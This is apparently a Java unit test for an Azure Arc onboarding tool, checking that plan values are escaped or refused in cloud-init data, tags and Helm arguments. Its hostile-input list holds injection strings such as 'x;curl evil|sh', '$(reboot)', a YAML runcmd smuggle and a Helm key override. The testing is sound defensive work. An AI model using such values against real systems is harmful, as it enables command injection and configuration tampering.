package dev.arcfleet.executor.route;

import static org.assertj.core.api.Assertions.assertThat;

import dev.arcfleet.contracts.Capability;
import dev.arcfleet.contracts.OnboardingPlan;
import dev.arcfleet.contracts.Route;
import dev.arcfleet.contracts.Target;
import dev.arcfleet.contracts.TargetKind;
import dev.arcfleet.executor.route.arck8s.ArcK8sSteps;
import dev.arcfleet.executor.route.companionvm.CompanionVmSteps;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * What a plan says reaches user data, command lines, Helm values, labels and tags only quoted for that place, or not
 * at all. The executor refuses such plans at the topic (PlanValidator); these hold the routes themselves, should a
 * value ever get past it.
 */
class RouteQuotingTest {
    static final AzureTarget AZURE = new AzureTarget("sub-1", "rg-1", "westeurope");
    static final List<String> HOSTILE = List.of(
            "x;curl evil|sh",
            "$(reboot)",
            "`id`",
            "a\nruncmd: [sh]",
            "'\"",
            "${onboardingClientSecret}",
            "k3s,global.resourceName=evil",
            "{a,b}",
            "a\\,b",
            "../../etc");

    @Test
    void theCloudInitUserDataIsConstantWhateverThePlanSays() {
        CompanionVmSteps route = new CompanionVmSteps("img", 1, 512, Duration.ofSeconds(1));
        for (String value : HOSTILE) {
            OnboardingPlan plan = vmPlan("lyon/" + value, Map.of("clusterId", value, "hostNode", value, "site", value));
            for (StepSpec step : route.steps(plan, AZURE)) {
                for (KubeObject object : step.kube()) {
                    if (object.name().endsWith("-cloudinit")) {
                        Object userData = ((Map<?, ?>) object.manifest().get("stringData")).get("userdata");
                        assertThat(userData).isEqualTo(CompanionVmSteps.USER_DATA);
                    }
                }
            }
        }
        assertThat(CompanionVmSteps.USER_DATA).doesNotContain("${");
    }

    @Test
    void aHostNodeThatIsNoLabelValueIsRefusedNotPutInANodeSelector() {
        CompanionVmSteps route = new CompanionVmSteps("img", 1, 512, Duration.ofSeconds(1));
        for (String value : List.of("x;curl evil|sh", "a".repeat(64), "-worker", "worker-", "a b", "$(reboot)")) {
            List<StepSpec> steps =
                    route.steps(vmPlan("lyon/w1", Map.of("clusterId", "lyon", "hostNode", value)), AZURE);
            assertThat(steps.get(0).refusal()).as(value).contains("hostNode");
            for (StepSpec step : steps) {
                step.kube()
                        .forEach(o ->
                                assertThat(o.manifest().toString()).as(value).doesNotContain(value));
            }
        }
        List<StepSpec> ok =
                route.steps(vmPlan("lyon/w1", Map.of("clusterId", "lyon", "hostNode", "worker-1.plant")), AZURE);
        assertThat(ok.get(0).refusal()).isNull();
        assertThat(ok)
                .flatExtracting(StepSpec::kube)
                .extracting(o -> o.manifest().toString())
                .anyMatch(m -> m.contains("kubernetes.io/hostname=worker-1.plant"));
    }

    @Test
    void azcmagentTagsCarryNoPlaceholderSeparatorOrControlCharacter() {
        for (String value : HOSTILE) {
            Map<String, String> params = new LinkedHashMap<>();
            params.put("clusterId", value);
            String config = CompanionVmSteps.azcmagentConfig("arc-x", "lyon/" + value, params, AZURE);
            String tags = config.replaceAll(".*\"tags\":\"([^\"]*)\".*", "$1");
            assertThat(tags).as(value).doesNotContain("${").doesNotContain("\n").matches("[^,=]+=[^,=]+,[^,=]+=[^,=]+");
            for (String tag : tags.split(",")) {
                assertThat(tag.substring(tag.indexOf('=') + 1)).as(value).matches("[A-Za-z0-9._:/-]{1,256}");
            }
            // the secret placeholders are the only ones in the file
            assertThat(config.split("\\$\\{", -1)).hasSize(4);
        }
    }

    @Test
    void helmValuesFromThePlanAreOneEscapedStringEach() {
        for (String value : HOSTILE) {
            OnboardingPlan plan = new OnboardingPlan(
                    "p1",
                    "c1",
                    Instant.EPOCH,
                    "plan-1",
                    "r1",
                    Route.ARC_K8S,
                    new Target(TargetKind.CLUSTER, "ghent"),
                    List.of("ghent/n1"),
                    List.of(Capability.GITOPS),
                    List.of(),
                    null,
                    "v1",
                    Map.of("distribution", value, "infrastructure", value));
            List<StepSpec> steps = new ArcK8sSteps(RouteContractTest.AGENTS, null).steps(plan, AZURE);
            List<?> args = installArgs(steps);
            for (int i = 0; i < args.size() - 1; i++) {
                if (String.valueOf(args.get(i)).startsWith("--set")) {
                    Map<String, String> parsed = helmSet(String.valueOf(args.get(i + 1)));
                    assertThat(parsed).as("%s %s", args.get(i), args.get(i + 1)).hasSize(1);
                    String key = parsed.keySet().iterator().next();
                    if (key.equals("global.kubernetesDistro") || key.equals("global.kubernetesInfra")) {
                        assertThat(args.get(i)).isEqualTo("--set-string");
                        assertThat(parsed.get(key)).isEqualTo(value);
                    }
                }
            }
            assertThat(args).anyMatch(a -> String.valueOf(a).startsWith("global.resourceName=ghent"));
            assertThat(args).noneMatch(a -> String.valueOf(a).startsWith("global.resourceName=evil"));
        }
    }

    @SuppressWarnings("unchecked")
    private static List<?> installArgs(List<StepSpec> steps) {
        StepSpec install = steps.stream()
                .filter(s -> s.name().equals("install-arc-agents"))
                .findFirst()
                .orElseThrow();
        Map<String, Object> job = install.kube().get(2).manifest();
        Map<String, Object> spec = (Map<String, Object>)
                ((Map<String, Object>) ((Map<String, Object>) job.get("spec")).get("template")).get("spec");
        return (List<?>)
                ((List<Map<String, Object>>) spec.get("containers")).get(0).get("args");
    }

    /** How Helm's strvals reads one --set argument: ',' separates, '\' escapes the next character, a '{' opens a list. */
    static Map<String, String> helmSet(String arg) {
        Map<String, String> values = new LinkedHashMap<>();
        List<String> parts = new ArrayList<>();
        StringBuilder current = new StringBuilder();
        for (int i = 0; i < arg.length(); i++) {
            char c = arg.charAt(i);
            if (c == '\\' && i + 1 < arg.length()) {
                current.append(arg.charAt(++i));
            } else if (c == ',') {
                parts.add(current.toString());
                current.setLength(0);
            } else if (c == '{' && current.length() > 0 && current.charAt(current.length() - 1) == '=') {
                parts.add(current + "<list>");
                current.setLength(0);
            } else {
                current.append(c);
            }
        }
        parts.add(current.toString());
        for (String part : parts) {
            int eq = part.indexOf('=');
            values.put(eq < 0 ? part : part.substring(0, eq), eq < 0 ? "" : part.substring(eq + 1));
        }
        return values;
    }

    private static OnboardingPlan vmPlan(String nodeId, Map<String, String> params) {
        return new OnboardingPlan(
                "p1",
                "c1",
                Instant.EPOCH,
                "plan-1",
                "r1",
                Route.COMPANION_VM,
                new Target(TargetKind.NODE, nodeId),
                List.of(nodeId),
                List.of(Capability.EXTENSIONS),
                List.of(),
                null,
                "v1",
                params);
    }
}
